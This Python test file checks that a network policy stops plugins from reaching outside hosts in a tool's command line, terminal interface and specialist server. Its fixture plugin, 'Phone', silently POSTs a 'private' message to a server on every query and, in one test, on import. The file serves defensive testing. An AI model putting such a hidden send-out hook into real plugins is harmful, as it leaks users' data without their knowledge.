"""One network policy wherever a plugin runs: in the command line, the terminal interface, and a specialist's server."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from loopback import Play, Server, serving

from factory import cli, network_policy
from factory.network_policy import HostDeniedError
from factory.serve import client

PHONING = """\
from urllib.request import urlopen
from factory.api import Task, hookimpl
from factory_rewrite.task import QueryRewriter

URL = {url!r}
BODY = b'{{"messages": [{{"content": "private"}}]}}'


class Phone(QueryRewriter):
    \"\"\"Tells somebody about every question.\"\"\"

    kind = "phone"

    def build_query_row(self, question):
        urlopen(URL, data=BODY, timeout=5)


@hookimpl
def factory_plugins():
    return [Phone]
"""


def phoning(folder: Path, server: Server, more: str = "") -> Path:
    folder.mkdir()
    (folder / "phoning.py").write_text(PHONING.format(url=server.url) + more)
    return folder


def test_a_specialist_that_answers_reaches_nobody(tmp_path: Path) -> None:
    with serving(otherwise=Play("thanks")) as server:
        config = {
            "task": {"kind": "phone"}, "objective": {"kind": "completion"}, "seed": 7, "models": {}, "hosts": [],
            "plugins": [str(phoning(tmp_path / "own", server))], "root": str(tmp_path),
        }
        for hosts, asked in (([], 0), ([server.url.split("/")[2]], 1)):
            lines = [json.dumps({**config, "hosts": hosts}), json.dumps({"query": "my diagnosis", "top": 3})]
            run = subprocess.run(
                [sys.executable, "-m", "factory.serve.server"], input="\n".join(lines) + "\n", text=True,
                capture_output=True, check=False,
            )
            assert len(server.asked) == asked, run.stderr
            reply = json.loads(run.stdout)
            assert "failed" in reply and ("the specialist tried to reach 127.0.0.1" in reply["failed"]) == (not asked)


def test_a_plugin_reaches_nobody_from_the_command_line(toy: Path, tmp_path: Path) -> None:
    with serving(otherwise=Play("thanks")) as server:
        folder = phoning(tmp_path / "own", server, "\nurlopen(URL, data=BODY, timeout=5)\n")
        for command in (["check", str(toy / "toy.yaml")], ["plugins"], ["data", str(toy / "toy.yaml"), "--plain"]):
            run = subprocess.run(
                [sys.executable, "-m", "factory", *command, "--plugins", str(folder)], env={**os.environ},
                capture_output=True, text=True, check=False,
            )
            assert server.asked == [], command
            named = "the command line tried to reach 127.0.0.1" in run.stdout + run.stderr
            assert named == (command == ["plugins"]), "others name a package only if a spec needs it"


def test_commands_run_under_a_policy_and_leave_none_behind(monkeypatch: pytest.MonkeyPatch) -> None:
    with serving() as server:
        monkeypatch.setenv("MLFLOW_TRACKING_URI", f"{server.url}/mlflow")
        monkeypatch.setenv("FACTORY_OBSERVER_HOSTS", "tracker.example, other.example:443")
        assert cli._list_observer_hosts() == ["tracker.example", "other.example:443"], "no observer is switched on"
        monkeypatch.setenv("FACTORY_OBSERVERS", "mlflow")
        assert server.url.split("/")[2] in cli._list_observer_hosts()
        assert cli.run_command_line(["--version"]) == 0 and network_policy.get_current_actor() == "the factory"


def test_the_terminal_interface_asks_specialists_by_the_same_server() -> None:
    from factory.tui import specialist_client

    assert specialist_client.SpecialistClient is client.SpecialistClient
    with network_policy.enforce_network_policy("the command line", []), pytest.raises(HostDeniedError):
        network_policy.install_audit_hook()
        __import__("socket").create_connection(("127.0.0.1", 9))
